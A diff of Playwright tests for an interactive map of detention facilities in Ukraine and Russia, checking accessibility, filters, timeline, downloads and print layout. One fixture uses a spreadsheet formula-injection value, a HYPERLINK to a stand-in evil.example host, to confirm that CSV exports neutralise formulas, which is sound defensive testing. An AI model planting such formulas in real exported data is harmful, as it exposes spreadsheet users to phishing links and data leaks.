@@ -38,7 +38,7 @@ def maps(tmp_path_factory, layer):
     """The demo map (joined, English), a Ukrainian map, and a map of hostile names."""
     d = tmp_path_factory.mktemp("maps")
     demo = join_testimonies(layer, read_testimonies(demo_testimonies_path()))
-    render_map(layer, join=demo).save(d / "demo.html")
+    render_map(demo).save(d / "demo.html")
     render_map(layer, lang="uk").save(d / "uk.html")
     hostile = gpd.GeoDataFrame({
         "id": [f"x-hostile-{i}" for i in range(len(HOSTILE))],
@@ -76,8 +76,11 @@ def test_loads_offline_without_errors(open_page, maps):
     banner = page.locator(".mapper-banner.synthetic")
     assert banner.is_visible()
     assert "SYNTHETIC" in banner.inner_text()
-    # the compressed blocks were inflated: regions, choropleth and transfer flows are drawn
-    assert page.locator(".leaflet-choro-pane path").count() > 0
+    # the compressed blocks were inflated: regions, choropleth are drawn; transfer flows
+    # are off by default (a calm first view) and drawn when switched on
+    assert len(page.evaluate("mapperTest.choroRegions()")) > 0
+    assert page.locator(".leaflet-flows-pane path").count() == 0
+    page.locator('input[data-layer="flows"]').check()
     assert page.locator(".leaflet-flows-pane path").count() > 0
     assert page.locator(".lbl.region").count() + page.locator(".lbl.country").count() > 0
 
@@ -112,6 +115,7 @@ def test_every_facility_is_drawn(open_page, maps, layer):
     page = open_page(maps["demo"])
     assert page.evaluate("mapperTest.features") == len(layer)
     assert sorted(page.evaluate("mapperTest.ids()")) == sorted(layer["id"])
+    page.evaluate("mapperTest.frameAll()")  # the first view frames the bulk, not outliers
     drawn = page.evaluate("""() => {
         const singles = [...document.querySelectorAll('.leaflet-marker-icon.mf[data-id]')]
             .map(e => e.dataset.id);
@@ -124,11 +128,16 @@ def test_every_facility_is_drawn(open_page, maps, layer):
             const shown = p && p._icon && document.body.contains(p._icon);
             if (!shown) hidden.push(m.feature.properties.id);
         });
-        return {singles, clustered, hidden};
+        const badged = [...document.querySelectorAll('.rb .rb-in')]
+            .map(e => +e.textContent).reduce((a, b) => a + b, 0);
+        return {singles, clustered, hidden, badged};
     }""")
     assert drawn["hidden"] == []
     assert len(set(drawn["singles"])) == len(drawn["singles"])
-    assert len(drawn["singles"]) + drawn["clustered"] == len(layer)
+    # region-level facilities are counted in region badges, never drawn as points
+    n_region = int((layer["geocode_precision"] == "region").sum())
+    assert drawn["badged"] == n_region
+    assert len(drawn["singles"]) + drawn["clustered"] == len(layer) - n_region
 
 
 def test_colocated_facilities_spread_and_clickable(open_page, maps, layer):
@@ -159,7 +168,8 @@ def test_colocated_facilities_spread_and_clickable(open_page, maps, layer):
 
 def test_click_marker_opens_its_popup(open_page, maps, layer):
     counts = layer.geometry.apply(lambda g: (round(g.x, 5), round(g.y, 5))).value_counts()
-    alone = layer[layer.geometry.apply(lambda g: counts[(round(g.x, 5), round(g.y, 5))] == 1)]
+    alone = layer[layer.geometry.apply(lambda g: counts[(round(g.x, 5), round(g.y, 5))] == 1)
+                  & (layer["geocode_precision"] != "region")]  # region-level: a badge, no marker
     row = alone.iloc[len(alone) // 2]
     page = open_page(maps["demo"])
     page.evaluate("([lat, lon]) => { mapperTest.map.setView([lat, lon], 11, {animate: false}); }",
@@ -188,8 +198,8 @@ def test_deep_link_opens_the_facility(open_page, maps, layer):
     page = open_page(maps["demo"], hash_="#id=" + row["id"])
     page.wait_for_selector(".leaflet-popup .mp")
     assert page.locator(".leaflet-popup .mp h3").inner_text() == row["name_en"]
-    # centred on it (the popup may pan the map a little to fit): in view, zoomed in
-    view = page.evaluate("([lat, lon]) => ({in: mapperTest.map.getBounds().pad(-0.2)"
+    # in view and zoomed in (the popup pans the map so that it clears the title panel)
+    view = page.evaluate("([lat, lon]) => ({in: mapperTest.map.getBounds()"
                          ".contains([lat, lon]), zoom: mapperTest.map.getZoom()})",
                          [row.geometry.y, row.geometry.x])
     assert view["in"] and view["zoom"] >= 8
@@ -282,7 +292,8 @@ def test_filters_and_table(open_page, maps, layer):
     n_ru = int((layer.country == "RU").sum())
     page.locator('input[data-group="terr"][data-key="ru"]').uncheck()
     assert rows.count() == len(layer) - n_ru
-    assert page.evaluate("mapperTest.markersInLayer()") == len(layer) - n_ru
+    placed_ua = int(((layer.country != "RU") & (layer.geocode_precision != "region")).sum())
+    assert page.evaluate("mapperTest.markersInLayer()") == placed_ua
     page.locator(".mapper-filters button", has_text="Show all").click()
     assert rows.count() == len(layer)
     # sortable by keyboard: the heading is a button, and aria-sort follows
@@ -323,3 +334,529 @@ def test_jupyter_iframe_inflates_the_data(open_page, maps, layer):
     assert frame.evaluate("mapperTest.features") == len(layer)
     assert page.errors == []
     _only_the_file(page, wrapper)
+
+
+# --- accessibility and keyboard (issue 9, point 7) ------------------------------------------
+
+@pytest.fixture(scope="module")
+def public_map(maps, layer):
+    path = maps["dir"] / "public.html"
+    render_map(maps["join"], public=True).save(path)
+    return path
+
+
+def _axe_serious(page) -> list:
+    """axe-core's serious and critical violations on the page as it is now."""
+    from axe_playwright_python.sync_playwright import Axe
+
+    # the page settled: two animation frames after the last change
+    page.evaluate("() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")
+    result = Axe().run(page)
+    return [(v["id"], v["impact"], [n["target"] for n in v["nodes"]][:5])
+            for v in result.response["violations"] if v["impact"] in ("serious", "critical")]
+
+
+@pytest.mark.parametrize("which,size", [("demo", (1440, 900)), ("public", (1440, 900)),
+                                        ("uk", (1440, 900)), ("demo", (390, 844))])
+def test_axe_no_serious_or_critical(browser, maps, public_map, which, size):
+    """axe-core (axe-playwright-python) on the default, public, uk and phone maps, first as
+    they open and then with a facility's popup and the legend open."""
+    path = public_map if which == "public" else maps[which]
+    # axe is injected as a script: this one context lets it past the page's CSP (the page's
+    # own scripts are the same either way); requests are still confined to the file
+    ctx = browser.new_context(viewport={"width": size[0], "height": size[1]}, bypass_csp=True)
+    page = ctx.new_page()
+    url = path.resolve().as_uri()
+    blocked = []
+    page.route("**/*", lambda r: r.continue_() if r.request.url.split("#")[0] == url
+               else (blocked.append(r.request.url), r.abort()))
+    page.goto(url)
+    page.wait_for_function("() => window.mapperTest && window.mapperTest.ready")
+    assert _axe_serious(page) == []
+    page.evaluate("id => mapperTest.focus(id)", "ru-rostov-taganrog-sizo-2")
+    page.wait_for_selector(".leaflet-popup .mp")
+    page.evaluate("document.querySelector('.mapper-legend').open = true")
+    assert _axe_serious(page) == []
+    assert blocked == []
+    ctx.close()
+
+
+def test_tab_order_search_first_and_every_stop_named(open_page, maps):
+    page = open_page(maps["demo"])
+    stops = []
+    for _ in range(70):
+        page.keyboard.press("Tab")
+        stops.append(page.evaluate("""() => { const e = document.activeElement;
+            return e.matches('.mf, .mc, .rb') ? 'shape' : (e.id || e.className || e.tagName); }"""))
+    assert stops[0] == "skip"
+    # the map itself (keyboard panning), the title's "About" link, then search: all before
+    # the first facility, cluster or badge
+    assert stops.index("mapper-search") <= 4, stops
+    assert "shape" in stops and stops.index("mapper-search") < stops.index("shape"), str(stops)
+    # the map's shapes: every tab stop among them is a facility, cluster or region badge with
+    # a name; labels, regions, flows, choropleth shapes are not tab stops
+    bad = page.evaluate("""() => [...document.querySelectorAll('.leaflet-map-pane [tabindex], '
+        + '.leaflet-map-pane a, .leaflet-map-pane button, .leaflet-map-pane input')]
+        .filter(e => e.tabIndex >= 0 && !e.closest('.leaflet-popup'))
+        .filter(e => !(e.matches('.mf, .mc, .rb') && (e.getAttribute('aria-label')
+            || e.textContent.trim() || e.querySelector('[aria-label]'))))
+        .map(e => e.outerHTML.slice(0, 120))""")
+    assert bad == []
+
+
+def _first_cluster(page):
+    page.wait_for_selector(".leaflet-marker-icon.mc")
+    return page.locator(".leaflet-marker-icon.mc").first
+
+
+def test_cluster_opens_by_keyboard(open_page, maps):
+    page = open_page(maps["demo"])
+    zoom = page.evaluate("mapperTest.map.getZoom()")
+    cluster = _first_cluster(page)
+    n = int(cluster.locator("span[data-count]").get_attribute("data-count"))
+    cluster.focus()
+    page.keyboard.press("Enter")
+    # it zooms in, or (facilities at one point: the same town's centre) spreads them out
+    page.wait_for_function("z => mapperTest.map.getZoom() > z || "
+                           "document.activeElement.matches('.mf')", arg=zoom)
+    # focus went on into what the cluster held: a facility or a smaller cluster
+    focused = page.evaluate("""() => { const e = document.activeElement;
+        return e.matches('.mf') ? 1 : e.matches('.mc') ? +e.querySelector('[data-count]')
+            .dataset.count : 0; }""")
+    assert 1 <= focused <= n
+    # and Space works the same
+    page.evaluate("() => { mapperTest.map.setZoom(3, {animate: false}); }")
+    cluster = _first_cluster(page)
+    cluster.focus()
+    page.keyboard.press(" ")
+    page.wait_for_function("() => mapperTest.map.getZoom() > 3 || "
+                           "document.activeElement.matches('.mf')")
+
+
+def test_popup_takes_focus_and_escape_gives_it_back(open_page, maps, layer):
+    fid = "ru-rostov-taganrog-sizo-2"
+    row = layer[layer.id == fid].iloc[0]
+    page = open_page(maps["demo"])
+    page.evaluate("([lat, lon]) => { mapperTest.map.setView([lat, lon], 12, {animate: false}); }",
+                  [row.geometry.y, row.geometry.x])
+    marker = page.locator(f'.mf[data-id="{fid}"]')
+    if marker.count() == 0:  # several facilities at one point: spread them out first
+        _first_cluster(page).focus()
+        page.keyboard.press("Enter")
+        marker.wait_for()
+    marker.focus()
+    page.keyboard.press("Enter")
+    page.wait_for_selector(f'.leaflet-popup .mp[data-id="{fid}"]')
+    assert page.evaluate("document.activeElement.closest('.leaflet-popup') !== null")
+    assert page.evaluate("document.activeElement.tagName") == "H3"
+    page.keyboard.press("Escape")
+    page.wait_for_selector(".leaflet-popup", state="detached")
+    assert page.evaluate("document.activeElement.dataset.id") == fid
+
+
+def test_marker_names_say_type_territory_and_precision(open_page, maps, layer):
+    fid = "ru-rostov-taganrog-sizo-2"
+    row = layer[layer.id == fid].iloc[0]
+    assert row["geocode_precision"] == "settlement"
+    page = open_page(maps["demo"])
+    page.evaluate("id => mapperTest.focus(id)", fid)
+    page.wait_for_selector(".leaflet-popup .mp")
+    label = page.locator(f'.mf[data-id="{fid}"]').get_attribute("aria-label")
+    assert label.startswith(row["name_en"] + " — ")
+    assert "Pre-trial detention centre (SIZO)" in label
+    assert "Russia" in label
+    assert f"somewhere in {row['settlement_en']}" in label
+    # the type is told by a letter as well as by hue
+    assert page.locator(f'.mf[data-id="{fid}"] svg text').text_content() == "S"
+
+
+def test_reduced_motion_is_honoured(browser, maps):
+    ctx = browser.new_context(reduced_motion="reduce")
+    page = ctx.new_page()
+    url = maps["demo"].resolve().as_uri()
+    page.route("**/*", lambda r: r.continue_() if r.request.url.split("#")[0] == url
+               else r.abort())
+    page.goto(url)
+    page.wait_for_function("() => window.mapperTest && window.mapperTest.ready")
+    opts = page.evaluate("""() => { const o = mapperTest.map.options;
+        return [o.zoomAnimation, o.fadeAnimation, o.markerZoomAnimation]; }""")
+    assert opts == [False, False, False]
+    ctx.close()
+
+
+# --- honest precision (point 2) -----------------------------------------------------------------
+
+def test_region_level_facilities_are_badges_not_points(open_page, maps, layer):
+    region_level = layer[layer.geocode_precision == "region"]
+    row = region_level[region_level.region_code == "RU-DA"].iloc[0]  # Dagestan: one colony
+    page = open_page(maps["demo"])
+    placed = page.evaluate("""() => { const ids = [];
+        mapperTest.clusters.getLayers().forEach(m => ids.push(m.feature.properties.id));
+        return ids; }""")
+    assert not set(placed) & set(region_level["id"])
+    assert sorted(page.evaluate("mapperTest.badgeIds()")) == sorted(region_level["id"])
+    page.evaluate("([lat, lon]) => { mapperTest.map.setView([lat, lon], 7, {animate: false}); }",
+                  [row.geometry.y, row.geometry.x])  # the region's representative point
+    badge = page.locator('.rb[data-region="RU-DA"]')
+    n_here = int((region_level.region_code == "RU-DA").sum())
+    assert n_here == 1
+    assert badge.get_attribute("aria-label") == (
+        "Facilities known only to the region (Republic of Dagestan): 1. Select to list them.")
+    badge.click()
+    listing = page.locator('.leaflet-popup .mb[data-region="RU-DA"]')
+    listing.wait_for()
+    assert "Only the region is known" in listing.inner_text()
+    listing.locator(f'button[data-id="{row["id"]}"]').click()
+    popup = page.locator(f'.leaflet-popup .mp[data-id="{row["id"]}"]')
+    popup.wait_for()
+    assert "only the region is known (Republic of Dagestan)" in popup.inner_text()
+    # the region's outline is drawn while it is open
+    assert page.locator(".leaflet-context-pane path").count() >= 1
+
+
+def test_settlement_level_says_somewhere_in_and_legend_and_table_agree(open_page, maps):
+    page = open_page(maps["demo"])
+    fid = "ru-rostov-taganrog-sizo-2"
+    page.evaluate("id => mapperTest.focus(id)", fid)
+    popup = page.locator(f'.leaflet-popup .mp[data-id="{fid}"]')
+    popup.wait_for()
+    assert "somewhere in Taganrog" in popup.inner_text()
+    where = page.locator(f'#mapper-table tr[data-id="{fid}"] td').nth(3).inner_text()
+    assert where == "somewhere in Taganrog"
+    dagestan = page.locator('#mapper-table tr[data-id="ru-dagestan-unspecified-colony"] td')
+    assert dagestan.nth(3).inner_text() == "only the region is known (Republic of Dagestan)"
+    page.locator(".mapper-legend summary").click()
+    legend = page.locator(".mapper-legend").inner_text()
+    assert "Settlement: Somewhere in the named town" in legend
+    assert "Region only: a badge on the region" in legend
+
+
+# --- a calm default (point 3) -------------------------------------------------------------------
+
+def _inside(pt, rect):
+    return rect["left"] <= pt[0] <= rect["right"] and rect["top"] <= pt[1] <= rect["bottom"]
+
+
+@pytest.mark.parametrize("size", [(1440, 900), (390, 844)])
+def test_first_view_frames_facilities_clear_of_panels(open_page, maps, layer, size):
+    page = open_page(maps["demo"], width=size[0], height=size[1])
+    inside = page.evaluate("""() => { const b = mapperTest.map.getBounds(), ids = [];
+        mapperTest.clusters.getLayers().forEach(m => {
+            if (b.contains(m.getLatLng())) ids.push(m.feature.properties.id); });
+        return ids; }""")
+    drawn = layer[layer.geocode_precision != "region"]  # region-level ones are badges
+    # the bulk is in view (a few colonies in Siberia and the Far East may be outside) ...
+    assert len(inside) >= 0.75 * len(drawn), len(inside)
+    # ... and all of Ukraine, where most of the facilities are
+    ukraine = set(drawn[drawn.country == "UA"]["id"])
+    assert ukraine <= set(inside), sorted(ukraine - set(inside))
+    # no facility or cluster is drawn under the title panel (or the open filters panel)
+    panels = page.evaluate("""() => [...document.querySelectorAll('.mapper-title, '
+        + '.mapper-filters[open]')].map(e => e.getBoundingClientRect().toJSON())""")
+    # every facility or cluster inside the framed bulk is clear of the panels (beyond the
+    # frame's edge, e.g. east of the Volga behind the filters, they may be covered)
+    centres = page.evaluate("""() => {
+        const pts = []; mapperTest.clusters.getLayers().forEach(m => pts.push(
+            m.feature.geometry.coordinates));
+        const b = L.latLngBounds(MapperUtil.bulkBounds(pts, 5)).pad(-0.02), out = [];
+        document.querySelectorAll('.mf, .mc').forEach(e => {
+            const r = e.getBoundingClientRect(), x = r.x + r.width / 2, y = r.y + r.height / 2;
+            if (b.contains(mapperTest.map.containerPointToLatLng([x, y]))) out.push([x, y]); });
+        return out; }""")
+    assert len(centres) >= 5
+    under = [c for c in centres if any(_inside(c, p) for p in panels)]
+    assert not under, under
+
+
+def test_search_results_are_never_covered(open_page, maps):
+    page = open_page(maps["demo"], width=1100, height=900)
+    page.locator(".mapper-legend summary").click()  # the legend open too
+    page.fill("#mapper-search", "a")
+    buttons = page.locator("#mapper-results button")
+    assert buttons.count() >= 10
+    covered = page.evaluate("""() => [...document.querySelectorAll('#mapper-results button')]
+        .filter(b => { const r = b.getBoundingClientRect(),
+                list = document.getElementById('mapper-results').getBoundingClientRect();
+            const y = r.y + r.height / 2;
+            if (y > list.bottom || y < list.top || y > innerHeight) return false;  // scrolled away
+            const e = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);
+            return !(e && b.contains(e)); }).map(b => b.dataset.id)""")
+    assert covered == []
+
+
+def test_default_layers(open_page, maps):
+    page = open_page(maps["demo"])
+    checked = page.evaluate("""() => Object.fromEntries([...document.querySelectorAll(
+        'input[data-layer]')].map(i => [i.dataset.layer, i.checked]))""")
+    assert checked == {"choro": True, "flows": False, "names": True}
+    # flows: arcs while they fit the screen, hidden (and said so) beyond zoom 7
+    page.locator('input[data-layer="flows"]').check()
+    assert page.locator(".leaflet-flows-pane path").count() > 0
+    page.evaluate("() => { mapperTest.map.setZoom(9, {animate: false}); }")
+    assert page.locator(".leaflet-flows-pane path").count() == 0
+    assert "Shown up to zoom 7" in page.locator(".mapper-filters").inner_text()
+
+
+# --- URL state (point 6), cite and download (point 5) ---------------------------------------
+
+def test_url_state_round_trip(open_page, maps, layer):
+    page = open_page(maps["demo"])
+    page.locator('input[data-group="type"][data-key="sizo"]').uncheck()
+    page.locator('.mapper-timeline button[data-year="2023"]').click()
+    fid = "ua-kharkiv-balakliia-police"
+    assert fid in set(layer["id"])
+    page.evaluate("id => mapperTest.focus(id)", fid)
+    page.wait_for_selector(f'.leaflet-popup .mp[data-id="{fid}"]')
+    hash_ = page.evaluate("location.hash")
+    assert f"id={fid}" in hash_ and "year=2023" in hash_ and "type=" in hash_
+    assert "sizo" not in hash_.split("type=")[1].split("&")[0].split(",")
+    shown = page.evaluate("mapperTest.shownIds()")
+    # a new reader opening that link sees the same selection, year and facility
+    again = open_page(maps["demo"], hash_=hash_)
+    again.wait_for_selector(f'.leaflet-popup .mp[data-id="{fid}"]')
+    assert again.evaluate("mapperTest.shownIds()") == shown
+    assert not again.locator('input[data-group="type"][data-key="sizo"]').is_checked()
+    assert again.locator('.mapper-timeline button[data-year="2023"]').get_attribute(
+        "aria-pressed") == "true"
+    assert again.errors == []
+
+
+def test_view_is_restored(open_page, maps):
+    page = open_page(maps["demo"], hash_="#view=47.1000,37.5500,9")
+    view = page.evaluate("""() => { const c = mapperTest.map.getCenter();
+        return [+c.lat.toFixed(2), +c.lng.toFixed(2), mapperTest.map.getZoom()]; }""")
+    assert view == [47.1, 37.55, 9]
+
+
+def test_unknown_id_says_so(open_page, maps):
+    page = open_page(maps["demo"], hash_="#id=no-such-facility")
+    alert = page.locator(".mapper-alert")
+    assert "no facility with the id “no-such-facility”" in alert.inner_text()
+    assert page.locator(".leaflet-popup").count() == 0
+
+
+def test_copy_link_is_never_a_file_path(open_page, maps, layer, tmp_path):
+    fid = "ru-rostov-taganrog-sizo-2"
+    page = open_page(maps["demo"])
+    page.evaluate("id => mapperTest.focus(id)", fid)
+    link = page.locator(".leaflet-popup .link input").input_value()
+    assert link == f"demo.html#id={fid}"
+    published = tmp_path / "pub.html"
+    render_map(layer, base_url="https://example.org/maps/detention.html").save(published)
+    page = open_page(published)
+    page.evaluate("id => mapperTest.focus(id)", fid)
+    link = page.locator(".leaflet-popup .link input").input_value()
+    assert link == f"https://example.org/maps/detention.html#id={fid}"
+    about = page.locator("#mapper-about").inner_text()
+    assert "https://example.org/maps/detention.html" in about
+    assert "How to cite" in about and "mapper figure" in about
+
+
+def test_downloads_equal_the_selection(open_page, maps, layer):
+    import csv
+    import io
+
+    page = open_page(maps["demo"])
+    page.locator('input[data-group="terr"][data-key="ru"]').uncheck()
+    page.locator('.mapper-timeline button[data-year="2022"]').click()
+    shown = page.evaluate("mapperTest.shownIds()")
+    assert 0 < len(shown) < len(layer)
+    with page.expect_download() as dl:
+        page.locator('button[data-download="geojson"]').click()
+    fc = json.loads(dl.value.path().read_text(encoding="utf-8"))
+    assert [f["properties"]["id"] for f in fc["features"]] == shown
+    assert all(f["properties"]["country"] == "UA" for f in fc["features"])
+    with page.expect_download() as dl:
+        page.locator('button[data-download="csv"]').click()
+    text = dl.value.path().read_text(encoding="utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["id"] for r in rows] == shown
+    assert dl.value.suggested_filename.endswith("_2022.csv")
+    assert page.blocked == []
+
+
+def test_csv_download_is_formula_safe(open_page, registry_fields_map):
+    import csv
+    import io
+
+    page = open_page(registry_fields_map)
+    with page.expect_download() as dl:
+        page.locator('button[data-download="csv"]').click()
+    rows = list(csv.DictReader(io.StringIO(dl.value.path().read_text(encoding="utf-8-sig"))))
+    name = next(r["name_en"] for r in rows if r["id"] == "t-russia")
+    assert name == "'" + FORMULA  # shown as text by a spreadsheet, never run
+    for r in rows:
+        for v in r.values():
+            assert v[:1] not in ("=", "+", "-", "@"), v
+
+
+# --- time (point 4), territory and sources from the registry's new fields -----------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?x","click")'
+
+
+@pytest.fixture(scope="module")
+def registry_fields_map(tmp_path_factory):
+    """Three facilities with the registry branch's fields (control_status, liberated_date,
+    sources with publisher and title). Names, places and dates are made up for the test."""
+    gdf = gpd.GeoDataFrame({
+        "id": ["t-liberated", "t-occupied", "t-russia"],
+        "name_en": ["Test place A", "Test place B", FORMULA],
+        "facility_type": ["improvised", "filtration_site", "sizo"],
+        "country": ["UA", "UA", "RU"], "occupied": [True, True, False],
+        "control_status": ["liberated", "occupied", "russia"],
+        "liberated_date": ["2022-11-11", None, None],
+        "region_code": ["UA-65", "UA-14", "RU-ROS"],
+        "settlement_en": ["Town A", "Town B", "Town C"],
+        "geocode_precision": ["settlement", "settlement", "exact"],
+        "first_reported": ["2022-03", "2022-04", "2023-01"],
+        "last_reported": ["2022-11", None, "2024-05"],
+        "sources": [[{"url": "https://example.org/a", "date": "2022-12-01",
+                      "publisher": "Example Outlet", "title": "Report on place A"}],
+                    [{"url": "https://example.org/b", "date": "2023"}],
+                    [{"url": "https://example.org/c", "date": "2024-05-02",
+                      "publisher": "Other Outlet", "title": "Place C",
+                      "retrieved_from": "https://web.archive.org/web/2024/https://example.org/c"}]],
+        "reported_detainees": ["civilian"] * 3, "context": ["captivity_since_2022"] * 3,
+    }, geometry=[Point(32.6, 46.65), Point(37.8, 48.0), Point(39.7, 47.2)], crs="EPSG:4326")
+    path = tmp_path_factory.mktemp("fields") / "fields.html"
+    render_map(gdf).save(path)
+    return path
+
+
+def test_liberated_and_occupied_with_dates_and_sources(open_page, registry_fields_map):
+    page = open_page(registry_fields_map)
+    page.evaluate("id => mapperTest.focus(id)", "t-liberated")
+    popup = page.locator('.leaflet-popup .mp[data-id="t-liberated"]')
+    popup.wait_for()
+    text = popup.inner_text()
+    assert "Liberated Ukraine since 2022-11-11 (occupied when in use, 2022-03 – 2022-11)" in text
+    link = popup.locator("ol a")
+    assert link.inner_text() == "Report on place A"
+    assert link.get_attribute("href") == "https://example.org/a"
+    assert "Example Outlet, 2022-12-01" in popup.locator("ol").inner_text()
+    page.evaluate("id => mapperTest.focus(id)", "t-occupied")
+    popup = page.locator('.leaflet-popup .mp[data-id="t-occupied"]')
+    popup.wait_for()
+    assert "Occupied Ukraine (in use 2022-04 – …)" in popup.inner_text()
+    # without publisher or title: the link shows the address and the outlet's host
+    assert "example.org, 2023" in popup.locator("ol").inner_text()
+    page.evaluate("id => mapperTest.focus(id)", "t-russia")
+    popup = page.locator('.leaflet-popup .mp[data-id="t-russia"]')
+    popup.wait_for()
+    assert "via web.archive.org" in popup.locator("ol").inner_text()
+    # the territory filter has its own entry for liberated places, and the table says so
+    assert page.locator('input[data-group="terr"][data-key="ua_liberated"]').count() == 1
+    cell = page.locator('#mapper-table tr[data-id="t-liberated"] td').nth(1).inner_text()
+    assert cell.startswith("Liberated Ukraine since 2022-11-11")
+    assert page.errors == []
+
+
+def test_timeline_drives_markers_counts_choropleth(open_page, maps, layer):
+    join = maps["join"]
+    page = open_page(maps["demo"])
+    bars = page.locator(".mapper-timeline button[data-year]")
+    years = [b for b in bars.evaluate_all("bs => bs.map(b => b.dataset.year)") if b]
+    assert "2022" in years and "2025" in years
+    page.locator('.mapper-timeline button[data-year="2024"]').click()
+    jl = join.layer
+    in_2024 = set(jl.loc[jl["testimonies_2024"] > 0, "id"])
+    shown = set(page.evaluate("mapperTest.shownIds()"))
+    assert in_2024 <= shown
+    for fid in shown - in_2024:  # the rest: reported in use that year
+        row = jl[jl.id == fid].iloc[0]
+        first = str(row["first_reported"])[:4] if isinstance(row["first_reported"], str) else "0"
+        last = str(row["last_reported"])[:4] if isinstance(row["last_reported"], str) else "9999"
+        assert first <= "2024" <= last, fid
+    assert page.locator("#mapper-table tbody tr").count() == len(shown)
+    status = page.locator(".mapper-status").inner_text()
+    assert f"Showing {len(shown)} of {len(layer)}" in status
+    # the choropleth now shows 2024's counts: one shape per region with testimonies in 2024
+    regs = join.regions
+    assert page.evaluate("mapperTest.choroRegions()") == sorted(
+        regs.loc[regs["testimonies_2024"] > 0, "region_code"])
+    page.locator('.mapper-timeline button[data-year=""]').click()
+    assert page.evaluate("mapperTest.choroRegions()") == sorted(
+        regs.loc[regs["testimonies"] > 0, "region_code"])
+
+
+# --- phone (point 8) and print (point 9) -------------------------------------------------------
+
+def test_phone_tap_targets_and_nothing_covers_a_control(open_page, maps):
+    page = open_page(maps["demo"], width=390, height=844)
+    small = page.evaluate("""() => [...document.querySelectorAll('.leaflet-control-container '
+        + 'button, .leaflet-control-container summary, .leaflet-control-container a[href], '
+        + '.leaflet-control-container input, .mf, .mc, .rb .rb-in')]
+        // a checkbox's target is its whole label
+        .map(e => [e.className || e.tagName, (e.type === 'checkbox' && e.closest('label')
+            ? e.closest('label') : e).getBoundingClientRect()])
+        .filter(([, r]) => r.width > 0 && (r.width < 24 || r.height < 24))
+        .map(([n, r]) => n + ' ' + Math.round(r.width) + 'x' + Math.round(r.height))""")
+    # the attribution's links are inline text (WCAG 2.5.8 exempts them)
+    assert [s for s in small if not s.startswith("A ") and "attribution" not in s] == [], small
+    covered = page.evaluate("""() => [...document.querySelectorAll('.leaflet-control-container '
+        + 'button, .leaflet-control-container summary, #mapper-search')]
+        .filter(e => { const r = e.getBoundingClientRect();
+            if (!r.width || r.bottom > innerHeight) return false;
+            const hit = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);
+            return !(hit && (e === hit || e.contains(hit))); })
+        .map(e => e.className || e.textContent)""")
+    assert covered == []
+    # the demo banner is in the title panel, never over the legend or the scale bar
+    banner = page.locator(".mapper-banner.synthetic")
+    assert banner.is_visible()
+    assert page.evaluate(
+        "document.querySelector('.mapper-banner').closest('.mapper-title') !== null")
+    # panels open as bottom sheets
+    page.locator(".mapper-filters summary").click()
+    box = page.locator(".mapper-filters").bounding_box()
+    assert box["width"] == 390 and abs(box["y"] + box["height"] - 844) <= 1
+
+
+def test_print_refits_with_legend_and_compact_table(open_page, maps, layer):
+    page = open_page(maps["demo"])
+    page.locator('input[data-group="terr"][data-key="ru"]').uncheck()
+    page.emulate_media(media="print")
+    page.evaluate("() => { window.dispatchEvent(new Event('beforeprint')); }")
+    assert page.evaluate("document.querySelector('.mapper-legend').open")
+    assert page.locator(".mapper-legend-body").is_visible()
+    for hidden in (".mapper-timeline", ".mapper-search", "#mapper-table td.noprint button"):
+        assert not page.locator(hidden).first.is_visible(), hidden
+    # the view is refitted to the selection: every facility shown is inside it
+    inside = page.evaluate("""() => { const b = mapperTest.map.getBounds();
+        return mapperTest.clusters.getLayers().every(m => b.contains(m.getLatLng())); }""")
+    assert inside
+    assert page.locator("#mapper-table tbody tr[data-id]").count() == len(
+        page.evaluate("mapperTest.shownIds()"))
+    assert "mapper figure" in page.locator("#mapper-about").inner_text()
+    page.screenshot(path=str(maps["dir"] / "print.png"), full_page=True)
+
+
+# --- scale (point 10): the table is virtualised; timings are in bench/bench_map.py --------------
+
+def test_long_table_is_virtualised(open_page, layer, tmp_path):
+    import pandas as pd
+
+    copies = []
+    for k in range(8):  # 8 × the layer, new ids, moved a little
+        c = layer.copy()
+        c["id"] = [f"{i}-v{k}" for i in c["id"]]
+        c["former_ids"] = [[] for _ in range(len(c))]
+        c["geometry"] = c.geometry.translate(0.01 * k, 0.0)
+        copies.append(c)
+    big = gpd.GeoDataFrame(pd.concat(copies, ignore_index=True), crs=layer.crs)
+    path = tmp_path / "big.html"
+    render_map(big).save(path)
+    page = open_page(path)
+    n = len(big)
+    assert page.evaluate("mapperTest.tableRows()") == n
+    in_dom = page.locator("#mapper-table tbody tr[data-id]").count()
+    assert 0 < in_dom < 300
+    # scrolled to the end, the last rows are there; the caption counts them all
+    page.evaluate("""() => { const s = document.querySelector('.mapper-table-scroll');
+        s.scrollTop = s.scrollHeight; s.dispatchEvent(new Event('scroll')); }""")
+    last = page.evaluate("""() => { const rows = document.querySelectorAll(
+        '#mapper-table tbody tr[data-id]'); return rows[rows.length - 1].dataset.id; }""")
+    ordered = page.evaluate("""() => mapperTest.shownIds().length""")
+    assert ordered == n and last
+    assert f"Showing {n} of {n}" in page.locator("#mapper-table caption").inner_text()
